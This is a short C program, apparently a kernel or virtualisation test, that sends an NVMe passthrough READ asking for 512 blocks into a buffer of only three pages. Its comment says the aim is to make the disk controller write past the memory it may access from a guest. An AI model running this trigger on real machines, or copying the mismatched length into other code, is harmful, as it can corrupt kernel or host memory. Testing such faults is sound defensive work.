/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * beyond DISK: asks an NVMe disk for more than the kernel has set up for the answer, so that the controller goes beyond what
 * it may access. Runs in a guest; what the command ends with is for the kernel to say.
 */
#include <fcntl.h>
#include <linux/nvme_ioctl.h>
#include <stdlib.h>
#include <sys/ioctl.h>

#define READ        2
#define THREE_PAGES (3 * 4096)
#define BLOCKS      512 /* of 512 bytes */

int main(int argc, char **argv)
{
    struct nvme_passthru_cmd command = {
        .opcode = READ,
        .nsid = 1,
        .data_len = THREE_PAGES,
        .cdw12 = BLOCKS - 1,
    };
    int fd = argc > 1 ? open(argv[1], O_RDWR) : -1;

    command.addr = (unsigned long)aligned_alloc(4096, THREE_PAGES);
    ioctl(fd, NVME_IOCTL_IO_CMD, &command);
    return fd < 0;
}
